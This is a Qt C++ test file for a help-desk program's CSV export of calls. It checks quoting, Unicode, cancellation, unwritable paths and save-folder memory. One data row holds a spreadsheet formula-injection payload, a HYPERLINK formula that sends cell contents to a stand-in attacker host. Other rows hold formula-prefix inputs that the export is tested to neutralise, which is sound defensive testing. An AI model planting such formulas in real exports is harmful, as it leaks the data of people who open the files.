// Export of the calls to comma-separated values: what spreadsheets read back, and a Cancel
// that leaves nothing behind.
#include "csv_reader.h"
#include "data/failure.h"
#include "data/shared_connection.h"
#include "records/call_export.h"
#include "test_support.h"
#include "ui/save_folder.h"

#include <QDir>
#include <QFile>
#include <QTest>

namespace {

QByteArray contentOf(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

QString quoted(QString text) {
    return "'" + text.replace("'", "''") + "'";
}

} // namespace

class TestExport : public QObject {
    Q_OBJECT
private slots:
    void init() {
        m_env = std::make_unique<TestEnvironment>();
        m_env->openSharedConnection();
        Exec("insert into Customers ([First Name],[Last Name]) values ('Zoë','O''Brien')");
        Exec("insert into Employees ([First Name],[Last Name]) values ('Ann','Lee')");
    }
    void cleanup() { m_env.reset(); }

    void hostileTextsRoundTrip_data() {
        QTest::addColumn<QString>("title");
        QTest::addColumn<QString>("comments");
        // What the file holds by default: a text that a spreadsheet would run as a formula
        // gets a leading apostrophe (empty: as stored).
        QTest::addColumn<QString>("guardedTitle");
        QTest::addColumn<QString>("guardedComments");
        QTest::newRow("quotes and commas") << "He said \"no\", twice"
                                           << "a,b,,\"c\"" << QString() << QString();
        QTest::newRow("line breaks") << "first\nsecond"
                                     << "one\r\ntwo\rthree\n"
                                     << QString() << QString();
        QTest::newRow("emoji and accents") << "Müller 😀 ñ"
                                           << "日本語 🎉" << QString() << QString();
        QTest::newRow("long comments")
            << "long" << QString(100000, QChar(0x00E9)) + "\"x\"" << QString() << QString();
        QTest::newRow("empty and blanks") << ""
                                          << "  padded  " << QString() << QString();
        QTest::newRow("formula and at sign")
            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
            << "@SUM(A1:A9)"
            << "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
            << "'@SUM(A1:A9)";
        QTest::newRow("plus and minus") << "+1+1"
                                        << "-2+3, said he"
                                        << "'+1+1"
                                        << "'-2+3, said he";
        QTest::newRow("tab and carriage return") << "\t=1"
                                                 << "\r=2\n"
                                                 << "'\t=1"
                                                 << "'\r=2\n";
        QTest::newRow("an apostrophe first") << "'=literal apostrophe title"
                                             << "'"
                                             << "''=literal apostrophe title"
                                             << "''";
        QTest::newRow("formula later on") << "a=1+1"
                                          << " =2" << QString() << QString();
    }
    void hostileTextsRoundTrip() {
        QFETCH(QString, title);
        QFETCH(QString, comments);
        QFETCH(QString, guardedTitle);
        QFETCH(QString, guardedComments);
        Exec("insert into Calls (Title,Caller,[Assigned To],[Opened By],Comments,[Opened Date],"
             "[Due Date],[Resolved Date]) values (" +
             quoted(title) + ",1,1,1," + quoted(comments) +
             ",'2024-01-01 10:30:00','2024-01-02',NULL)");
        const QString path = m_env->dataHome() + "/calls.csv";
        QVERIFY(ExportAllCalls(SharedConnection(), path, {}, Csv::Text::AsStored));
        const QList<QStringList> records = ReadCsv(contentOf(path));
        QCOMPARE(records.size(), 2);
        QCOMPARE(records[0],
                 QStringList({"ID", "Title", "Caller", "Assigned To", "Priority", "Status",
                              "Category", "Due Date", "Opened Date", "Resolved By", "Resolved Time",
                              "Opened By", "Comments", "Attachments"}));
        const QStringList expected = {Scalar("select ID from Calls").toString(),
                                      title,
                                      "Zoë O'Brien",
                                      "Ann Lee",
                                      "",
                                      "",
                                      "",
                                      "2024-01-02",
                                      "2024-01-01 10:30:00",
                                      "",
                                      "",
                                      "Ann Lee",
                                      comments,
                                      ""};
        QCOMPARE(records[1], expected);
        QVERIFY(!QFile::exists(path + ".part"));

        QVERIFY(ExportAllCalls(SharedConnection(), path));
        QStringList guarded = expected;
        guarded[1] = guardedTitle.isEmpty() ? title : guardedTitle;
        guarded[12] = guardedComments.isEmpty() ? comments : guardedComments;
        QCOMPARE(ReadCsv(contentOf(path)).at(1), guarded);
    }

    void everyRowWithProgressAndCancel_data() {
        QTest::addColumn<int>("cancelAt"); // progress call that answers Cancel; 0 never
        QTest::newRow("complete") << 0;
        QTest::newRow("cancel midway") << 2;
        QTest::newRow("cancel at the end") << 3;
    }
    void everyRowWithProgressAndCancel() {
        QFETCH(int, cancelAt);
        SharedConnection().beginTransaction();
        for (int i = 0; i < 10000; ++i)
            Exec(QString("insert into Calls (Title,[Due Date]) values ('call %1','2024-01-02')")
                     .arg(i));
        SharedConnection().commit();
        const QString path = m_env->dataHome() + "/calls.csv";
        QFile::remove(path);
        if (cancelAt != 0) {
            QFile old(path);
            QVERIFY(old.open(QIODevice::WriteOnly));
            old.write("old export");
        }
        int calls = 0;
        qint64 lastDone = 0;
        const bool written =
            ExportAllCalls(SharedConnection(), path, [&](qint64 done, qint64 total) {
                [&] { QCOMPARE(total, 10000); }();
                lastDone = done;
                return ++calls != cancelAt;
            });
        QCOMPARE(written, cancelAt == 0);
        if (written) {
            QCOMPARE(lastDone, 10000);
            const QList<QStringList> records = ReadCsv(contentOf(path));
            QCOMPARE(records.size(), 10001);
            QCOMPARE(records.last()[1], "call 9999");
        } else {
            QCOMPARE(contentOf(path), QByteArray("old export"));
        }
        QCOMPARE(QDir(m_env->dataHome()).entryList(QDir::Files), QStringList{"calls.csv"});
    }

    void unwritablePlaceFails_data() {
        QTest::addColumn<QString>("relative");
        QTest::newRow("missing folder") << "/missing/calls.csv";
        QTest::newRow("a folder") << "";
    }
    void unwritablePlaceFails() {
        QFETCH(QString, relative);
        QVERIFY_THROWS_EXCEPTION(Failure,
                                 ExportAllCalls(SharedConnection(), m_env->dataHome() + relative));
    }

    // The file dialog opens in the folder saved to last while it is there, else in a folder
    // that is.
    void saveFolderIsOneThatIsThere_data() {
        QTest::addColumn<QStringList>("savedTo");
        QTest::addColumn<bool>("removed");
        QTest::newRow("saved to once") << QStringList{"a"} << false;
        QTest::newRow("saved to twice: the last") << QStringList{"a", "b"} << false;
        QTest::newRow("removed since") << QStringList{"a"} << true;
    }
    void saveFolderIsOneThatIsThere() {
        QFETCH(QStringList, savedTo);
        QFETCH(bool, removed);
        QString last;
        for (const QString& name : savedTo) {
            last = m_env->dataHome() + "/" + name;
            QDir().mkpath(last);
            RememberSaveFolder(last + "/calls.csv");
        }
        if (removed)
            QDir(last).removeRecursively();
        QCOMPARE(SaveFolder() == last, !removed);
        QVERIFY(QFileInfo(SaveFolder()).isDir());
    }

private:
    std::unique_ptr<TestEnvironment> m_env;
};

QTEST_MAIN(TestExport)
#include "test_export.moc"
